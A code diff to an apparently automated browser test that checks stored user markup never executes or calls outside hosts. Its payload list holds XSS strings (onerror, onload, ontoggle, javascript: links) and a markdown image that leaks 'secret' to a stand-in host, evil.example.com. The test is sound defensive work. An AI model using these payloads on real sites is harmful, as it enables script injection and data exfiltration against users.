@@ -15,7 +15,7 @@ const PAYLOADS = [
   '<img src=x onerror="alert(\'xss-img\')">',
   '<svg onload="alert(\'xss-svg\')"></svg>',
   '"><iframe src="javascript:alert(\'xss-iframe\')"></iframe>',
-  '[click me](javascript:alert(\'xss-link\'))',
+  "[click me](javascript:alert('xss-link'))",
   '<a href="javascript:alert(\'xss-anchor\')">open</a>',
   '![tracker](https://evil.example.com/leak.png?data=secret)',
   '<details open ontoggle="alert(\'xss-details\')">x</details>',
@@ -33,7 +33,8 @@ test('markup a user stores never runs: in a quoted document, a question, a chat 
   });
   page.on('request', (request) => {
     const host = new URL(request.url()).hostname;
-    if (!['localhost', '127.0.0.1'].includes(host) && !request.url().startsWith('data:') && !request.url().startsWith('blob:')) outside.push(request.url());
+    if (!['localhost', '127.0.0.1'].includes(host) && !request.url().startsWith('data:') && !request.url().startsWith('blob:'))
+      outside.push(request.url());
   });
 
   const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'kai-e2e-xss-'));
